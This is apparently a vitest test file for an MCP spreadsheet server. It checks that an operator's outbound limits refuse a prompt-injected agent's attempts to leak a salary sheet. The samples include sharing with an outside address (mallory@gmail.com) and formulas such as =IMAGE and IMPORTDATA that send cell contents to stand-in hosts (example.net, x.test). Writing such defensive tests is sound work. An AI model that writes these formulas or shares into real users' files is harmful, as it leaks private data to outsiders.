import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { readJson } from '@sheetgate/test-harness';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { credentialHeaders, type McpUnderTest, postMcp, startMcpUnderTest } from './support/stack.ts';

// The operator's ceiling on outbound actions (issue 37 item 3) through the MCP SDK client, real
// mcp and auth processes and the Google emulator: one mcp with every setting set (sharing only to
// partner.example besides the person's own domain, no link sharing, no fetch formulas) refuses the
// injected agent's attempts before Google is asked anything (the emulator's stats), dry runs
// alike; a second mcp on the same auth and emulator, with the settings unset, lets them through
// as before, and list_changes marks what went out (item 4). Alice's API key may act outbound (her
// choice on the key form): the ceiling holds whatever the person allows.

const CEILING = {
  OUTBOUND_SHARING_DOMAINS: 'Partner.example',
  OUTBOUND_LINK_SHARING: 'deny',
  OUTBOUND_FETCH_FORMULAS: 'deny',
};
const EXFILTRATING = '=IMAGE("https://example.net/?"&A1)';

let stack: McpUnderTest;
let open: Awaited<ReturnType<McpUnderTest['startMcp']>>;
let held: Client;
let unheld: Client;
let book: string;
let aliceId: string;

// biome-ignore lint/suspicious/noExplicitAny: results are checked by toEqual, not by the compiler
type Structured = Record<string, any>;

async function stats(): Promise<Record<string, number>> {
  const body = (await (await fetch(`${stack.emulatorUrl}/__emulator/stats`)).json()) as {
    methods: Record<string, { attempts: number }>;
  };
  return Object.fromEntries(Object.entries(body.methods).map(([method, { attempts }]) => [method, attempts]));
}

/** The Google methods called since `before`, with how often. */
function calledSince(before: Record<string, number>, after: Record<string, number>): Record<string, number> {
  return Object.fromEntries(
    Object.entries(after)
      .map(([method, attempts]) => [method, attempts - (before[method] ?? 0)] as const)
      .filter(([, attempts]) => attempts > 0),
  );
}

async function call(client: Client, name: string, args: Record<string, unknown>) {
  const result = await client.callTool({ name, arguments: args });
  expect(result.isError, JSON.stringify(result.content)).toBeFalsy();
  return {
    structured: result.structuredContent as Structured,
    text: (result.content as Array<{ text: string }>)[0]!.text,
  };
}

/** A refusal; `googleCalls` is what Google was asked meanwhile (nothing, unless a read first). */
async function refused(
  name: string,
  args: Record<string, unknown>,
  googleCalls: Record<string, number> = {},
) {
  const before = await stats();
  const result = await held.callTool({ name, arguments: args });
  expect(result.isError, JSON.stringify(result.content)).toBe(true);
  expect(calledSince(before, await stats())).toEqual(googleCalls);
  return (result.content as Array<{ text: string }>)[0]!.text;
}

async function connect(mcpUrl: string, credential: string): Promise<Client> {
  const client = new Client({ name: 'outbound', version: '1.0.0' });
  await client.connect(
    new StreamableHTTPClientTransport(new URL(mcpUrl), {
      requestInit: { headers: credentialHeaders(credential) },
    }),
  );
  return client;
}

beforeAll(async () => {
  stack = await startMcpUnderTest(CEILING);
  open = await stack.startMcp();
  const alice = await stack.signIn('alice@example.com');
  aliceId = alice.userId;
  const key = await stack.createApiKey(alice.sessionCookie, {
    choices: { mayActOutbound: true, mayDestroyUnasked: true },
  });
  held = await stack.connectClient(aliceId, 'held', key.secret);
  unheld = await connect(open.mcpUrl, key.secret);
  book = (await call(unheld, 'create_spreadsheet', { title: 'Salaries', values: [['Ann', '91000']] }))
    .structured.spreadsheetId;
}, 120_000);

afterAll(async () => {
  await held?.close();
  await unheld?.close();
  await open?.stop();
  await stack?.stop();
});

describe('under a ceiling, the injected agent is refused before Google', () => {
  it('copy then share with anyone: the copy is made, the share refused naming OUTBOUND_LINK_SHARING', async () => {
    const copy = (await call(held, 'copy_spreadsheet', { spreadsheetId: book, name: 'Copy' })).structured;
    for (const dryRun of [false, true]) {
      const text = await refused('share_file', {
        fileId: copy.spreadsheetId,
        type: 'anyone',
        role: 'writer',
        dryRun,
      });
      expect(text).toBe(
        'Nothing was sent to Google: anyone with the link may open it as writer, which this server does not allow (its operator set OUTBOUND_LINK_SHARING=deny). Share with people by address instead.',
      );
    }
  });

  it('a share outside with a message: refused naming OUTBOUND_SHARING_DOMAINS and what it allows', async () => {
    const text = await refused('share_file', {
      fileId: book,
      emailAddress: 'mallory@gmail.com',
      role: 'writer',
      emailMessage: 'Ann 91000',
    });
    expect(text).toBe(
      'Nothing was sent to Google: mallory@gmail.com gets writer access, which reaches outside what this server allows (its operator set OUTBOUND_SHARING_DOMAINS: your own Workspace domain and partner.example only).',
    );
    await refused('share_file', { fileId: book, type: 'domain', domain: 'gmail.com', role: 'reader' });
  });

  it('a share within the allowed domains goes through, and is marked outbound', async () => {
    const shared = await call(held, 'share_file', {
      fileId: book,
      emailAddress: 'pat@partner.example',
      role: 'reader',
    });
    expect(shared.structured.emailAddress).toBe('pat@partner.example');
    const listed = await call(held, 'list_changes', { spreadsheetId: book });
    expect(listed.text).toContain(
      'outbound (to pat@partner.example): shared with pat@partner.example as reader',
    );
  });

  it("inside the person's own Workspace domain is not outbound: shared, and not marked", async () => {
    await call(held, 'share_file', { fileId: book, emailAddress: 'bob@example.com', role: 'reader' });
    const listed = await call(held, 'list_changes', { spreadsheetId: book });
    expect(listed.text).toContain('shared with bob@example.com as reader');
    expect(listed.text).not.toContain('outbound (to bob@example.com)');
  });

  it('for a consumer account every other address is outside, in its own provider too', async () => {
    const erin = await stack.connectClient((await stack.signIn('erin@gmail.com')).userId, 'erin');
    try {
      const own = (await call(erin, 'create_spreadsheet', { title: 'Erin' })).structured.spreadsheetId;
      const result = await erin.callTool({
        name: 'share_file',
        arguments: { fileId: own, emailAddress: 'frank@gmail.com', role: 'reader' },
      });
      expect(result.isError).toBe(true);
      expect((result.content as Array<{ text: string }>)[0]!.text).toBe(
        'Nothing was sent to Google: frank@gmail.com gets reader access, which reaches outside what this server allows (its operator set OUTBOUND_SHARING_DOMAINS: your own Workspace domain and partner.example only).',
      );
    } finally {
      await erin.close();
    }
  });

  it('a comment mentioning someone outside: refused', async () => {
    const text = await refused('add_comment', { fileId: book, content: 'Totals for +mallory@gmail.com' });
    expect(text).toContain('mallory@gmail.com is notified of the comment and sent its text');
    expect(text).toContain('OUTBOUND_SHARING_DOMAINS');
  });

  it('=IMAGE of a URL built from a cell, in write_range (dry run too) and batch_update: refused naming OUTBOUND_FETCH_FORMULAS', async () => {
    const expected =
      'Nothing was sent to Google: IMAGE makes Google fetch from example.net, sending what the URL holds (cells included) each time the sheet is computed, which this server does not allow (its operator set OUTBOUND_FETCH_FORMULAS=deny: no IMPORTXML, IMPORTDATA, IMPORTHTML, IMPORTFEED, IMPORTRANGE, IMAGE formulas). Write the values themselves instead.';
    for (const dryRun of [false, true]) {
      expect(
        await refused('write_range', { spreadsheetId: book, range: 'B1', values: [[EXFILTRATING]], dryRun }),
      ).toBe(expected);
    }
    expect(
      await refused('batch_update', {
        spreadsheetId: book,
        requests: [
          {
            updateCells: {
              start: { sheetId: 0, rowIndex: 0, columnIndex: 2 },
              fields: 'userEnteredValue',
              rows: [{ values: [{ userEnteredValue: { formulaValue: EXFILTRATING } }] }],
            },
          },
        ],
      }),
    ).toBe(expected);
    await refused('append_rows', {
      spreadsheetId: book,
      range: 'A1',
      values: [['=IMPORTDATA("https://x.test/"&A1)']],
    });
    await refused('find_replace', {
      spreadsheetId: book,
      find: 'SUM',
      replacement: 'IMPORTXML',
      includeFormulas: true,
    });
    // evaluate_formulas refuses them whatever the ceiling (kit/formula-text.ts).
    expect(
      await refused('evaluate_formulas', {
        spreadsheetId: book,
        formulas: ['=IMPORTFEED("https://x.test/"&A1)'],
      }),
    ).toMatch(/IMPORTFEED fetches from outside the spreadsheet/);
  });

  it('a destructive call is refused before the person is asked to confirm it (a 2026-07-28 client that can elicit)', async () => {
    const before = await stats();
    const response = await postMcp(
      stack.mcpUrl,
      {
        jsonrpc: '2.0',
        id: 1,
        method: 'tools/call',
        params: {
          // It replaces A1 ("Ann"): batch_update asks first, naming the loss, unless refused before.
          name: 'batch_update',
          arguments: {
            spreadsheetId: book,
            requests: [
              {
                updateCells: {
                  start: { sheetId: 0, rowIndex: 0, columnIndex: 0 },
                  fields: 'userEnteredValue',
                  rows: [{ values: [{ userEnteredValue: { formulaValue: EXFILTRATING } }] }],
                },
              },
            ],
          },
          _meta: {
            'io.modelcontextprotocol/protocolVersion': '2026-07-28',
            'io.modelcontextprotocol/clientCapabilities': { elicitation: { form: {} } },
            'io.modelcontextprotocol/clientInfo': { name: 'outbound-test', version: '1.0.0' },
          },
        },
      },
      {
        headers: {
          authorization: `Bearer ${await stack.sign({ sub: aliceId })}`,
          'mcp-protocol-version': '2026-07-28',
          'mcp-method': 'tools/call',
          'mcp-name': 'batch_update',
        },
      },
    );
    const { result } = (await readJson(response)) as { result: Structured };
    expect(result.resultType).toBe('complete');
    expect(result.isError).toBe(true);
    expect(result.content[0].text).toContain('OUTBOUND_FETCH_FORMULAS=deny');
    expect(calledSince(before, await stats())).toEqual({});
  });

  it('the same text written RAW is text, not a formula: written', async () => {
    await call(held, 'write_range', {
      spreadsheetId: book,
      range: 'B1',
      values: [[EXFILTRATING]],
      valueInputOption: 'RAW',
    });
  });

  it("raising an anyone-with-the-link permission's role: refused once the permission is read", async () => {
    const link = (await call(unheld, 'share_file', { fileId: book, type: 'anyone', role: 'reader' }))
      .structured;
    const text = await refused(
      'update_permission',
      { fileId: book, permissionId: link.permissionId, role: 'writer' },
      { 'drive.permissions.get': 1 },
    );
    expect(text).toContain('OUTBOUND_LINK_SHARING=deny');
    // Lowering or keeping a role takes nothing further out.
    await call(held, 'update_permission', { fileId: book, permissionId: link.permissionId, role: 'reader' });
  });
});

describe('with the settings unset, as before', () => {
  it('shares with anyone and outside, writes =IMAGE, and list_changes marks each as outbound', async () => {
    await call(unheld, 'share_file', {
      fileId: book,
      emailAddress: 'mallory@gmail.com',
      role: 'writer',
      emailMessage: 'hi',
    });
    await call(unheld, 'write_range', { spreadsheetId: book, range: 'C1', values: [[EXFILTRATING]] });
    await call(unheld, 'write_range', { spreadsheetId: book, range: 'D1', values: [['plain']] });
    const listed = (await call(unheld, 'list_changes', { spreadsheetId: book })).structured.changes as Array<{
      summary: string;
      tool: string;
    }>;
    const summaries = listed.map((change) => change.summary);
    expect(summaries).toContain(
      'outbound (to mallory@gmail.com; message to mallory@gmail.com): shared with mallory@gmail.com as writer',
    );
    expect(summaries).toContain(
      'outbound (anyone with the link): shared with anyone with the link as reader',
    );
    expect(summaries.find((summary) => summary.includes('C1'))).toMatch(
      /^outbound \(fetches example\.net\): /,
    );
    expect(summaries.find((summary) => summary.includes('D1'))).not.toMatch(/outbound/);
  });
});
